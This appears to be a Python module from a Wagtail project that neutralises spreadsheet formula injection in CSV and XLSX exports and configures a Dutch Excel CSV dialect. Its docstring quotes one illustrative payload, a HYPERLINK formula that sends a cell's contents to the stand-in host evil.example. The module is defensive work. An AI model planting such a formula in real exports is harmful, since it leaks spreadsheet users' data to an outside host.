"""CSV exports that a spreadsheet program cannot turn into formulas (CSV/formula injection).

A cell that starts with ``= + - @`` (or a tab or carriage return, which some programs skip
before reading a formula) is run as a formula when the file is opened: a contact name
``=HYPERLINK("https://evil.example/?"&A1, "klik")`` leaks data. Following OWASP, such text gets
a leading ``'``, which spreadsheets show as text. Numbers stay numbers (a negative int is
not text someone typed). Every CSV export writes through :func:`csv_writer` /
:func:`csv_dict_writer`, or, for Wagtail's list exports (snippets, modeladmin),
:class:`SafeSpreadsheetExportMixin`; XLSX is safe already (Wagtail writes formula-like
strings as text).

Wagtail's list exports write CSV in the Dutch Excel dialect (:class:`DutchExcel`: ``;`` between
columns, a UTF-8 byte order mark first), so Dutch Excel opens them in columns with accents intact.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

import openpyxl
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text; non-text values are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Utf8Echo:
    """A file-like object whose ``write`` returns the UTF-8 bytes (a streamed response's chunks)."""

    def write(self, value: str) -> bytes:
        return value.encode("utf-8")


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(self._neutralise(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def _neutralise(self, row):
        return [neutralise_cell(value) for value in row]

    def __getattr__(self, name):  # writeheader, dialect
        return getattr(self._writer, name)


class _SafeDictWriter(_SafeWriter):
    def _neutralise(self, row):
        return {key: neutralise_cell(value) for key, value in row.items()}


def csv_writer(out, **kwargs) -> _SafeWriter:
    """Like :func:`csv.writer`, with every cell neutralised."""
    return _SafeWriter(csv.writer(out, **kwargs))


def csv_dict_writer(out, fieldnames, **kwargs) -> _SafeDictWriter:
    """Like :class:`csv.DictWriter`, with every cell neutralised."""
    return _SafeDictWriter(csv.DictWriter(out, fieldnames, **kwargs))


class DutchExcel(csv.excel):
    """Dutch Excel splits CSV on ``;`` (the comma is its decimal separator)."""

    delimiter = ";"


#: Written first, so Excel reads the file as UTF-8 rather than the Windows code page.
UTF8_BOM = "\ufeff"


class SafeSpreadsheetExportMixin:
    """For Wagtail index views with ``list_export``: CSV cells are neutralised (XLSX already is),
    in the :class:`DutchExcel` dialect with a byte order mark."""

    def stream_csv(self, queryset):
        writer = csv.DictWriter(_Utf8Echo(), fieldnames=self.list_export, dialect=DutchExcel)
        yield UTF8_BOM.encode()
        yield writer.writerow({field: self.get_heading(queryset, field) for field in self.list_export})
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise_cell(value) if export_format == "csv" else value


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook with one sheet per ``(title, rows)``; the first row is set in bold.

    openpyxl stores a string that starts with ``=`` as a formula, so text cells are neutralised
    here as in CSV.
    """
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title[:31])
        for index, row in enumerate(rows):
            sheet.append([neutralise_cell(value) for value in row])
            if index == 0:
                for cell in sheet[1]:
                    cell.font = Font(bold=True)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
